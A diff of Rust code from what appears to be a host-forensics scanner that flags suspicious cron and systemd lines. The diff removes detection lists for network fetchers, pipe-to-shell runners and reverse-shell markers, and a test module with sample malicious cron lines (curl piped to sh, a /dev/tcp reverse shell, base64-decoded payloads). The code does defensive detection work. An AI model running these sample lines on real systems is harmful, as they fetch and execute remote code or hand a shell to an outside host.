@@ -1,64 +1,17 @@
 //! Checks of what starts again by itself.
 
-use super::{Case, Found, Grade, Sign, accounts::is_later};
+use super::{
+    Case, Found, Grade, Sign,
+    accounts::is_later,
+    lines::{OPEN, reading_in},
+};
 use crate::{
     findings::Evidence,
     traces::{Owner, Place, TextFile, TextKind},
 };
 
-/// What fetches something from the network.
-const FETCHERS: [&str; 4] = ["curl ", "wget ", "fetch ", "lwp-download "];
-/// What runs something that it is given.
-const RUNNERS: [&str; 8] =
-    ["|sh", "|bash", "|/bin/sh", "|/bin/bash", "|python", "|perl", "|sudobash", "|sudosh"];
-/// Shells that strangers steer.
-const REVERSE: [&str; 4] = ["/dev/tcp/", "/dev/udp/", "bash -i", "nc -e"];
-/// Where everybody may write.
-const OPEN: [&str; 4] = ["/tmp/", "/var/tmp/", "/dev/shm/", "/run/lock/"];
-/// Programs for which such a path is an argument only.
-const CLEANERS: [&str; 9] =
-    ["find", "rm", "ls", "mkdir", "chown", "chmod", "touch", "cd", "tmpreaper"];
 /// Most lines of one text that are told.
 const LINES_MAX: usize = 20;
-
-/// What a line would do, if it is nothing good.
-fn reading(line: &str) -> Option<(Grade, &'static str)> {
-    let line = line.trim();
-    if line.is_empty() || line.starts_with('#') || line.starts_with("//") {
-        return None;
-    }
-    let dense: String = line.chars().filter(|c| !c.is_whitespace()).collect();
-    let runs = RUNNERS.iter().any(|runner| dense.contains(runner));
-    let fetches = FETCHERS.iter().any(|fetcher| line.contains(fetcher));
-    // `curl -o /tmp/x ... && sh /tmp/x` does in two steps what a pipe does in one.
-    let from_open = OPEN.iter().any(|folder| line.contains(folder));
-    let decoded = dense.contains("base64-d") || dense.contains("base64--decode");
-    if (fetches && (runs || (from_open && line.contains("chmod")))) || (decoded && runs) {
-        return Some((Grade::Strong, "sign.downloader"));
-    }
-    if REVERSE.iter().any(|word| line.contains(word)) {
-        return Some((Grade::Strong, "sign.reverse-shell"));
-    }
-    if starts_in_open(line) {
-        return Some((Grade::Suspicious, "sign.starts-in-tmp"));
-    }
-    fetches.then_some((Grade::Note, "sign.fetches"))
-}
-
-/// Whether a program in a folder of everybody's is what is run, not only an argument: the first
-/// path of a line is in such a folder.
-fn starts_in_open(line: &str) -> bool {
-    let command = line.split_once('=').map_or(line, |(key, value)| match key.starts_with("Exec") {
-        true => value.trim_start_matches(['-', '@', '+', '!']),
-        false => line,
-    });
-    let words: Vec<&str> = command.split_ascii_whitespace().collect();
-    let Some(at) = words.iter().position(|word| word.starts_with('/')) else { return false };
-    let path = words.get(at).copied().unwrap_or_default();
-    let before = at.checked_sub(1).and_then(|at| words.get(at)).copied().unwrap_or_default();
-    let only_an_argument = CLEANERS.contains(&before) || path.ends_with('/');
-    !only_an_argument && OPEN.iter().any(|folder| path.starts_with(folder))
-}
 
 fn of<'c>(case: &'c Case<'_>, kind: TextKind) -> impl Iterator<Item = &'c TextFile> {
     case.traces.texts.iter().filter(move |file| file.kind == kind)
@@ -70,9 +23,9 @@ fn scan(case: &Case<'_>, kind: TextKind, strange: &str, found: &mut Found) {
         found.looked_at += 1;
         let mut told = false;
         for (number, line) in crate::formats::lines(&file.text).take(100_000) {
-            let Some((grade, text)) = reading(line) else { continue };
-            // Packages fetch things too; what they brought is compared with them elsewhere.
-            if file.owner == Owner::Package && grade < Grade::Strong {
+            let Some((grade, text)) = reading_in(&file.path, line) else { continue };
+            // Packages fetch things too; their settings are anybody's to change all the same.
+            if file.owner == Owner::Package && grade < Grade::Suspicious {
                 continue;
             }
             let evidence = Evidence::file(&file.path, number, line.trim());
@@ -246,30 +199,4 @@ pub(super) fn names(case: &Case<'_>) -> Found {
         }
     }
     found
-}
-
-#[cfg(test)]
-mod tests {
-    use super::{Grade, reading};
-
-    #[test]
-    fn lines_that_fetch_and_run() {
-        let strong = |line: &str| assert_eq!(reading(line).unwrap().0, Grade::Strong, "{line}");
-        strong("* * * * * root curl -fsSL http://203.0.113.5/x | sh");
-        strong("*/5 * * * * wget -q -O- http://x/y|bash");
-        strong("@reboot root wget -O /tmp/x http://x && chmod +x /tmp/x && /tmp/x");
-        strong("* * * * * bash -i >& /dev/tcp/203.0.113.5/443 0>&1");
-        strong("echo aGk= | base64 -d | sh");
-        assert_eq!(reading("ExecStart=-/dev/shm/x -q").unwrap().0, Grade::Suspicious);
-        assert_eq!(reading("0 3 * * * root curl https://example.org/ping").unwrap().0, Grade::Note);
-        for line in [
-            "# curl http://x | sh",
-            "17 * * * * root cd / && run-parts --report /etc/cron.hourly",
-            "find /tmp/ -mtime +7 -delete",
-            "ExecStart=/usr/sbin/tmpreaper /tmp/",
-            "",
-        ] {
-            assert_eq!(reading(line), None, "{line}");
-        }
-    }
 }
